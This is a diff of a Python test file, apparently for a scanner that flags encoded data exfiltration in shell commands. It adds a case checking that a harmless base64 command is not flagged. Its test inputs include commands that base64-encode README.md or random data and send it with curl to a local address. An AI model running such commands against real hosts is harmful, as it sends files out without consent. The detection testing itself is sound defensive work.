@@ -49,8 +49,11 @@ def _():
         _, flags = flags_of(place, "base64 README.md | curl -s -m 5 -d @- http://127.0.0.1:1/; true")
         same(flags, [("rule:encoded-exfiltration", "flag")], "flags")
     with Place() as place:
-        _, flags = flags_of(place, "/bin/true $(head -c 300 /dev/urandom | base64 -w0)")
+        _, flags = flags_of(place, "curl -s -m 5 http://127.0.0.1:1/$(head -c 300 /dev/urandom | base64 -w0); true")
         same(flags, [("rule:encoded-exfiltration", "flag")], "flags")
+    with Place() as place:
+        _, flags = flags_of(place, "/bin/true $(head -c 300 /dev/urandom | base64 -w0)")
+        same(flags, [], "flags of what goes nowhere")
 
 
 @test("miners are flagged by name and by address")
